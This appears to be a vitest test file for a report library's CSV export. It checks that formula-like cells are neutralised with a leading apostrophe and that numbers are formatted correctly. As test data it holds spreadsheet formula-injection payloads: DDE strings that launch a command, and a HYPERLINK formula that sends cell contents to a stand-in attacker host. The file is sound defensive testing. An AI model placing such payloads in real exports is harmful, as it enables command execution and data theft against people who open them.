import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { safeCsvCell, safeCsvRows } from '../../../src/lib/report/csv-cell';
import { csvNumber, figureCsv } from '../../../src/lib/report/figure-csv';
import { loadReportInputs } from '../../../src/lib/report/report-fs';
import { buildReport } from '../../../src/lib/report/report';
import { DATA_DIR } from '../../lib/pinned';

describe('safeCsvCell(value)', () => {
  it.each(['=HYPERLINK("http://x.invalid","click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"])(
    'neutralises the formula-like text cell %j with a leading apostrophe',
    (cell) => {
      expect(safeCsvCell(cell)).toBe(`'${cell}`);
    },
  );

  it('keeps numbers numbers, negative ones included, and plain decimal text as written', () => {
    expect(safeCsvCell(-0.0161)).toBe(-0.0161);
    expect(safeCsvCell(0)).toBe(0);
    expect(safeCsvCell('-0.0161')).toBe('-0.0161');
    expect(safeCsvCell('+1.5e-3')).toBe('+1.5e-3');
    expect(safeCsvCell('2022-06-30')).toBe('2022-06-30');
    expect(safeCsvCell('Black Monday reaches Tokyo')).toBe('Black Monday reaches Tokyo');
    expect(
      safeCsvRows([
        ['a', -1],
        ['=x', '-1'],
      ]),
    ).toEqual([
      ['a', -1],
      ["'=x", '-1'],
    ]);
  });
});

describe('figureCsv(id, report) with a curated label that looks like a formula', () => {
  it('writes the label as text a spreadsheet will not run, and the signed moves as numbers', () => {
    const inputs = loadReportInputs(DATA_DIR);
    const events = inputs.curated.overview.events;
    const evil = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")';
    inputs.curated.overview.events = events.map((e, i) => (i === 0 ? { ...e, label: { ...e.label, zh: '@SUM(1+1)', en: evil } } : e));
    const csv = figureCsv('overview-events', buildReport(inputs, '2022-06-30'));
    const rows = parse(csv) as string[][];
    expect(rows[1]).toContain(`'${evil}`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // Black Monday's day move is a negative number, written as one (no apostrophe).
    expect(rows[1]?.some((c) => /^-0\.\d+$/.test(c))).toBe(true);
  });
});

describe('csvNumber(x, minDecimals)', () => {
  it('keeps 6 significant digits and at least 4 decimals, and integers whole', () => {
    // Index levels as the data give them (4 dp); growth of 100 and ratios to 4 dp or 6 significant digits.
    expect(csvNumber(27258.3809)).toBe(27258.3809);
    expect(csvNumber(38512.67123456)).toBe(38512.6712);
    expect(csvNumber(99.49409427813843)).toBe(99.4941);
    expect(csvNumber(9.94325146168969)).toBe(9.94325);
    // Fractions (returns, volatilities, weights): 6 significant digits, however small.
    expect(csvNumber(0.10304162820659739)).toBe(0.103042);
    expect(csvNumber(-0.000049459919186700674)).toBe(-0.0000494599);
    expect(csvNumber(13944)).toBe(13944);
    expect(csvNumber(-3)).toBe(-3);
  });

  it('keeps at least the decimals a table shows', () => {
    expect(csvNumber(29.123456789, 6)).toBe(29.123457);
    expect(csvNumber(0.12090310727393114, 5)).toBe(0.120903);
  });
});
